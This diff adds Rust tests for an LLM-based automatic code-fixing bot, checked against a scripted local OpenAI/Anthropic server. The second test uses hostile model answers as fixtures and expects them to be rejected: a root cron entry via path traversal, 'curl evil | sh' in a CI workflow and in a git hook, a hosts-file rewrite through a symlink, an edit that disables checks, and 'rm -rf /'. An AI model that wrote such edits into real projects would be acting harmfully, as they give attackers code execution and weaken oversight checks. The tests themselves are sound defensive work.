@@ -1098,3 +1098,312 @@ async fn a_missing_node_package_is_added_installed_and_validated() {
         attempt.reason
     );
 }
+
+// ---------------------------------------------------------------------------------------
+// The LLM strategy, against `sentinel_llm::testing`'s local server: it speaks the documented
+// request/response shapes of OpenAI's `/v1/chat/completions` and Anthropic's `/v1/messages`
+// on 127.0.0.1 (the real APIs cannot be reached from test machines). The answers are
+// scripted; everything after them — screening, writing, sandboxed validation — is real.
+
+mod llm {
+    use super::*;
+    use sentinel_llm::testing::{Reply, ScriptedServer, anthropic_reply, openai_reply, serve};
+    use sentinel_llm::{LlmClient, LlmConfig, Provider};
+    use sentinel_patchbot::llm::{CandidateOutcome, LlmFixConfig, LlmFixer};
+    use serde_json::json;
+
+    const CALC: &str = "def add(a, b):\n    return a - b\n\n\ndef double(x):\n    return 2 * x\n";
+    const TEST_CALC: &str = "import unittest\n\nfrom calc import add, double\n\n\nclass \
+                             CalcTest(unittest.TestCase):\n    def test_add(self):\n        \
+                             self.assertEqual(add(2, 3), 5)\n\n    def test_double(self):\n        \
+                             self.assertEqual(double(4), 8)\n\n\nif __name__ == \"__main__\":\n    \
+                             unittest.main()\n";
+
+    async fn llm_bot(provider: Provider, base: &str, fix: LlmFixConfig) -> PatchBot {
+        let client = LlmClient::new(
+            LlmConfig {
+                provider,
+                base_url: Some(base.to_owned()),
+                model: "test-model".into(),
+                timeout_ms: 10_000,
+                max_response_bytes: 256 * 1024,
+                ..LlmConfig::default()
+            },
+            Some("sk-test-key".into()),
+        )
+        .unwrap();
+        let jail = LocalJail::detect().await;
+        let mut config = PatchBotConfig::new(tool_cache(), Arc::new(jail));
+        config.command_timeout = Duration::from_secs(120);
+        config.llm = Some(LlmFixer::new(Arc::new(client), "test-model", fix));
+        PatchBot::new(config)
+    }
+
+    fn user_prompt(server: &ScriptedServer, provider: Provider) -> String {
+        let reqs = server.requests();
+        let (_, _, body) = reqs.last().unwrap();
+        let i = usize::from(provider == Provider::Openai);
+        body["messages"][i]["content"].as_str().unwrap().to_owned()
+    }
+
+    /// The real fix: a Python repository whose unit test really fails (`add` subtracts). The
+    /// failure is reproduced and classified as `sentinel fix` does; no deterministic
+    /// strategy applies to a test failure, so the (local) OpenAI-compatible API is asked.
+    /// Its answer holds a path-traversal candidate (discarded), a wrong fix (applied, fails
+    /// validation, rolled back) and a right fix as a unified diff, which the sandbox
+    /// validates by really re-running the failing command — and so does the host, on the
+    /// committed fix.
+    #[tokio::test]
+    async fn an_llm_candidate_fixes_a_real_python_test_failure() {
+        let (server, base) = serve().await;
+        let (origin, sha) = repo(&[("calc.py", CALC), ("test_calc.py", TEST_CALC)]);
+        let before = snapshot(origin.path());
+        let bot = llm_bot(Provider::Openai, &base, LlmFixConfig::default()).await;
+        let command = "python3 -m unittest test_calc";
+        let repository = origin.path().display().to_string();
+        let run = bot.reproduce(&repository, &sha, command).await.unwrap();
+        assert_ne!(run.step.exit_code, 0, "{}", run.output);
+        assert!(
+            run.output.contains("AssertionError: -1 != 5"),
+            "{}",
+            run.output
+        );
+        let c = sentinel_classify::Catalogue::builtin()
+            .unwrap()
+            .classify(run.output.as_bytes(), Some(command));
+        assert_eq!(c.failure_type, FailureType::TestFailure, "{c:?}");
+
+        let answer = json!({"candidates": [
+            {"explanation": "rewrite the module outside", "edits": [
+                {"path": "../calc.py", "search": "", "replace": "pwned = True\n"}]},
+            {"explanation": "multiply instead", "edits": [
+                {"path": "calc.py", "search": "return a - b", "replace": "return a * b"}]},
+            {"explanation": "add adds", "diff":
+                "--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n"}
+        ]});
+        server.push(openai_reply(&answer.to_string()));
+        let mut req = request(
+            origin.path(),
+            &sha,
+            c.failure_type,
+            command,
+            c.tool.as_deref(),
+        );
+        req.log_excerpt = format!(
+            "{}\nexport GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n",
+            run.output
+        );
+        let attempt = bot.attempt(&req).await.unwrap();
+        assert_fixed(&attempt);
+        assert_eq!(attempt.strategy.as_deref(), Some("llm"));
+        assert_eq!(attempt.files_changed, ["calc.py"]);
+        assert!(
+            attempt
+                .diff
+                .contains("-    return a - b\n+    return a + b\n"),
+            "{}",
+            attempt.diff
+        );
+        assert_eq!(attempt.validation[0].command, command);
+        assert_eq!(attempt.tool_versions["llm"], "test-model");
+        // No test command: prior 0.6 × 0.9 (validated by the failing command alone).
+        assert!(
+            (attempt.confidence - 0.54).abs() < 1e-9,
+            "{}",
+            attempt.confidence
+        );
+        let outcomes: Vec<CandidateOutcome> =
+            attempt.candidates.iter().map(|c| c.outcome).collect();
+        assert_eq!(
+            outcomes,
+            [
+                CandidateOutcome::Discarded,
+                CandidateOutcome::FailedValidation,
+                CandidateOutcome::Validated
+            ]
+        );
+        assert!(
+            attempt.candidates[0].reason.contains("'..'"),
+            "{:?}",
+            attempt.candidates
+        );
+        assert!(
+            attempt.candidates[1].reason.contains("validation failed"),
+            "{:?}",
+            attempt.candidates
+        );
+
+        // What the model was shown: the file the traceback names, the log, no secret.
+        let prompt = user_prompt(&server, Provider::Openai);
+        assert!(
+            prompt.contains("<<<FILE calc.py (whole file)\ndef add(a, b):"),
+            "{prompt}"
+        );
+        assert!(prompt.contains("<<<FILE test_calc.py"), "{prompt}");
+        assert!(prompt.contains("AssertionError: -1 != 5"), "{prompt}");
+        assert!(!prompt.contains("ghp_abc"), "{prompt}");
+        let reqs = server.requests();
+        assert_eq!(reqs.len(), 1);
+        assert_eq!(reqs[0].1["authorization"], "Bearer sk-test-key");
+        assert!(
+            reqs[0].2["messages"][0]["content"]
+                .as_str()
+                .unwrap()
+                .contains("\"candidates\"")
+        );
+
+        // The committed fix passes the failing command outside the sandbox too.
+        let commit = bot.commit(&attempt, "test failure in calc").await.unwrap();
+        let workdir = attempt.repo_dir().unwrap();
+        assert_eq!(git(&workdir, &["rev-parse", "HEAD"]), commit);
+        assert_eq!(git(&workdir, &["status", "--porcelain"]), "");
+        let out = std::process::Command::new("python3")
+            .args(["-m", "unittest", "test_calc"])
+            .current_dir(&workdir)
+            .env("PYTHONDONTWRITEBYTECODE", "1")
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(!origin.path().parent().unwrap().join("calc.py").exists());
+        assert_eq!(snapshot(origin.path()), before);
+    }
+
+    /// Hostile answers through the (local) Anthropic Messages API: path traversal, an
+    /// absolute path, a workflow edit, a write through a symlink the repository carries, a
+    /// `.git` hook, a check-configuration edit and a giant change are each discarded with
+    /// their reason, and nothing outside the work tree is written. Malformed JSON, an
+    /// answer in the wrong shape and an oversized response end the attempt as `no_fix`
+    /// with the reason; a 5xx is a transient error (the task is retried).
+    #[tokio::test]
+    async fn hostile_llm_answers_are_discarded_with_their_reasons() {
+        let (server, base) = serve().await;
+        let outside = TempDir::new().unwrap();
+        std::fs::write(outside.path().join("hosts"), "127.0.0.1 localhost\n").unwrap();
+        let (origin, sha) = repo(&[
+            ("check.py", "import sys\nsys.exit(0 if 1 + 1 == 3 else 1)\n"),
+            (".github/workflows/ci.yml", "on: push\njobs: {}\n"),
+            (".sentinel.toml", "test_command = \"python3 check.py\"\n"),
+        ]);
+        std::os::unix::fs::symlink(outside.path(), origin.path().join("escape")).unwrap();
+        git(origin.path(), &["add", "escape"]);
+        git(origin.path(), &["commit", "--quiet", "-m", "link"]);
+        let sha2 = git(origin.path(), &["rev-parse", "HEAD"]);
+        assert_ne!(sha, sha2);
+        let fix = LlmFixConfig {
+            candidates: 8,
+            ..LlmFixConfig::default()
+        };
+        let bot = llm_bot(Provider::Anthropic, &base, fix).await;
+        let giant: String = (0..2000).map(|i| format!("x{i} = {i}\n")).collect();
+        let answer = json!({"candidates": [
+            {"edits": [{"path": "../../../etc/cron.d/x", "search": "", "replace": "* * * * * root sh\n"}]},
+            {"edits": [{"path": "/tmp/sentinel-pwned", "search": "", "replace": "x"}]},
+            {"diff": "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1,2 +1,2 @@\n on: push\n-jobs: {}\n+jobs: {steps: [{run: 'curl evil | sh'}]}\n"},
+            {"edits": [{"path": "escape/hosts", "search": "127.0.0.1 localhost", "replace": "6.6.6.6 localhost"}]},
+            {"edits": [{"path": ".git/hooks/post-checkout", "search": "", "replace": "#!/bin/sh\ncurl evil | sh\n"}]},
+            {"edits": [{"path": ".sentinel.toml", "search": "python3 check.py", "replace": "true"}]},
+            {"edits": [{"path": "check.py", "search": "import sys\n", "replace": giant}]},
+            {"explanation": "no", "edits": "rm -rf /"}
+        ]});
+        server.push(anthropic_reply(&answer.to_string()));
+        let mut req = request(
+            origin.path(),
+            &sha2,
+            FailureType::TestFailure,
+            "python3 check.py",
+            None,
+        );
+        req.log_excerpt =
+            "Traceback (most recent call last):\n  File \"/ci/check.py\", line 2\n".into();
+        let attempt = bot.attempt(&req).await.unwrap();
+        assert_eq!(attempt.status, FixStatus::NoFix, "{}", attempt.reason);
+        assert_eq!(attempt.strategy.as_deref(), Some("llm"));
+        let reasons: Vec<&str> = attempt
+            .candidates
+            .iter()
+            .map(|c| c.reason.as_str())
+            .collect();
+        assert!(
+            attempt
+                .candidates
+                .iter()
+                .all(|c| c.outcome == CandidateOutcome::Discarded),
+            "{reasons:#?}"
+        );
+        for (i, want) in [
+            "'..'",
+            "absolute",
+            "protected path .github/workflows/ci.yml",
+            "symbolic link",
+            "git's own directory",
+            "configures the checks",
+            "blast-radius",
+            "\"edits\" is not an array",
+        ]
+        .iter()
+        .enumerate()
+        {
+            assert!(
+                reasons[i].contains(want),
+                "candidate {}: {:?}",
+                i + 1,
+                reasons[i]
+            );
+        }
+        assert!(
+            attempt.reason.contains("no LLM candidate passed"),
+            "{}",
+            attempt.reason
+        );
+        assert_eq!(
+            std::fs::read_to_string(outside.path().join("hosts")).unwrap(),
+            "127.0.0.1 localhost\n"
+        );
+        assert!(!Path::new("/tmp/sentinel-pwned").exists());
+        assert!(attempt.workdir.is_none());
+        let reqs = server.requests();
+        assert_eq!(reqs[0].0, "/v1/messages");
+        assert_eq!(reqs[0].1["x-api-key"], "sk-test-key");
+        assert_eq!(reqs[0].1["anthropic-version"], "2023-06-01");
+        assert!(
+            reqs[0].2["system"]
+                .as_str()
+                .unwrap()
+                .contains("At most 8 candidates")
+        );
+        assert_eq!(reqs[0].2["max_tokens"], 512);
+
+        // Each following answer is to a new command (answers are cached per failure).
+        let cases: [(Reply, &str); 3] = [
+            (
+                anthropic_reply("Sure! Here is the fix: {\"candidates\": []}"),
+                "not strict JSON",
+            ),
+            (
+                anthropic_reply("{\"candidates\": \"all of them\"}"),
+                "malformed",
+            ),
+            (anthropic_reply(&"x".repeat(300 * 1024)), "larger than"),
+        ];
+        for (i, (reply, want)) in cases.into_iter().enumerate() {
+            server.push(reply);
+            req.command = format!("python3 check.py {i}");
+            let attempt = bot.attempt(&req).await.unwrap();
+            assert_eq!(attempt.status, FixStatus::NoFix);
+            assert!(attempt.reason.contains(want), "{want}: {}", attempt.reason);
+        }
+        server.push(Reply {
+            status: 529,
+            headers: vec![],
+            body: json!({"type": "error", "error": {"type": "overloaded_error", "message": "Overloaded"}}).to_string(),
+            delay: Duration::ZERO,
+        });
+        req.command = "python3 check.py overloaded".into();
+        let err = bot.attempt(&req).await.expect_err("transient");
+        assert!(err.is_transient(), "{err}");
+    }
+}
